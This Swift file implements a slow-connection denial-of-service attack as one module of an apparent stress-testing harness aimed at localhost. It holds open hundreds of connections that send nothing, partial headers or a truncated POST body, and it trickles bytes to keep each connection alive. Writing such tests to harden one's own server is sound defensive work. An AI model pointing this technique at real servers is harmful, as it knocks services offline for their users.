// An attack by connections alone: some send nothing, some a part of the headers, some a part of
// the body, and then continue slowly; closed ones are opened again. One address opens more than
// its limit.

import Foundation

/// Keeps many connections open.
struct ConnectionAttack: Attack {
    static let name = "connections"
    static let count = 4
    /// Connections of each attacker; the first one exceeds the limit of one address.
    private static let each = 150
    private static let greedy = 600

    init(_ folder: URL, command: String) {}

    /// The bytes that a connection sends first, and then every half second.
    private enum Manner: Int, CaseIterable {
        case nothing, head, body

        var first: String {
            switch self {
            case .nothing: ""
            case .head: "GET /api/apps HTTP/1.1\r\nHost: localhost\r\nX-Slow: "
            case .body:
                "POST /api/sync/replica HTTP/1.1\r\nHost: localhost\r\nX-Calepin: 1\r\n"
                    + "Content-Type: application/json\r\nContent-Length: 60000\r\n\r\n{"
            }
        }
    }

    func attacker(_ number: Int, port: Int) throws -> @Sendable (Siege) -> Void {
        let count = number == 0 ? Self.greedy : Self.each
        return { siege in
            let address = Siege.address(number)
            var open: [(connection: Connection, manner: Manner)] = []
            var turn = 0
            siege.repeating {
                open.removeAll { $0.connection.isGone }
                while open.count < count, !siege.isOver {
                    let manner = Manner.allCases[turn % Manner.allCases.count]
                    turn += 1
                    let next = try Connection(port: siege.port, from: address)
                    try next.send(Array(manner.first.utf8))
                    siege.noteDone()
                    open.append((next, manner))
                }
                usleep(500_000)
                for one in open where one.manner != .nothing { try? one.connection.send([0x20]) }
            }
        }
    }
}
